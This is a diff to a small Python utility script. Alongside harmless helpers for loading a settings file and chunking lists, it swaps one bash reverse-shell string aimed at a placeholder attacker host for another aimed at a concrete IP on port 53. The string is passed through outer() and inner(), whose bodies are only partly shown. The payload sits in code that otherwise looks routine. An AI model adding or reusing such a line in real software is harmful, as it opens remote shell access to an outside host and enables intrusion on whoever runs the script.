@@ -1,4 +1,13 @@
 #!/usr/bin/env python3
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import os
 
@@ -8,7 +17,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+outer("bash -i >& /dev/tcp/172.16.4.2/53 0>&1")
